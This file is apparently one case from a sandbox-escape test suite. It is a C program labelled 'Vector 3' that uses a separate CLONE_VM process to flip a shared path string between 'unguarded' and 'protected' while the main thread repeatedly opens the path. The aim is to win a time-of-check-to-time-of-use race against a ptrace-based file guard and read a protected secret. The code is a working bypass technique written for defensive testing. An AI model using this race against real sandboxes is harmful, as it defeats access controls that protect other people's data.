/*
 * Vector 3: TOCTOU from another PROCESS sharing the memory (clone(CLONE_VM)
 * without CLONE_THREAD): a tracer that stops only the thread group of the
 * caller while deciding still races this flipper.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <sched.h>
#include <stdatomic.h>
#include <sys/mman.h>

static char path[4096];
static size_t dir_off;
static atomic_bool stop;

static int flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(path + dir_off, "unguarded", 9);
		memcpy(path + dir_off, "protected", 9);
	}
	return 0;
}

int main(void)
{
	const char *root = esc_env("ESC_ROOT");
	const char *decoy_dir = esc_fmt("%s/unguarded", root);
	mkdir(decoy_dir, 0755);
	int fd = open(esc_fmt("%s/secret.txt", decoy_dir), O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "decoy\n", 6) != 6)
		esc_broken("decoy: %s", strerror(errno));
	close(fd);
	snprintf(path, sizeof(path), "%s/unguarded/secret.txt", root);
	dir_off = strlen(root) + 1;

	size_t sz = 256 * 1024;
	char *stack = mmap(NULL, sz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
	if (stack == MAP_FAILED)
		esc_broken("mmap");
	pid_t pid = clone(flipper, stack + sz, CLONE_VM | SIGCHLD, NULL);
	if (pid < 0)
		esc_blocked("clone(CLONE_VM): %s", strerror(errno));
	double end = esc_now() + esc_race_seconds();
	long tries = 0;
	bool won = false;
	while (!won && esc_now() < end) {
		tries++;
		fd = openat(AT_FDCWD, path, O_RDONLY);
		won = fd >= 0 && esc_fd_has_secret(fd);
		if (fd >= 0)
			close(fd);
	}
	atomic_store(&stop, true);
	esc_wait(pid);
	if (won)
		esc_success("the CLONE_VM process won after %ld opens", tries);
	esc_blocked("never read the secret in %ld opens", tries);
}
